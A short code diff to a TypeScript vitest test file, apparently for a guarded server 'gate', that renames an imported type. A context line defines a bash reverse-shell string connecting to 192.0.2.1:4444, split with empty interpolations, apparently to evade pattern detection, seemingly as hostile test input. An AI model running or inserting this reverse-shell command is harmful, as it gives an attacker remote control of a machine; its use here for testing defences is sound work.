@@ -6,7 +6,7 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { tarOf, writeTestImage } from '../src/images/images.fixture.ts';
 import { runCommand } from '../src/lib/index.ts';
-import { openPlace, type Place } from '../src/server/gate/guarded.fixture.ts';
+import { type GateFolder, openPlace } from '../src/server/gate/guarded.fixture.ts';
 
 const isInstalled = async (...argv: readonly string[]) =>
   (await runCommand(argv).catch(() => undefined))?.code === 0;
@@ -20,7 +20,7 @@ for (const [name, isThere] of Object.entries(has)) {
 }
 
 const shell = `bash -c 'ba${''}sh -i >& /dev/t${''}cp/192.0.2.1/4444 0>&1'\n`;
-let place: Place;
+let place: GateFolder;
 let host: string;
 let folder: string;
 
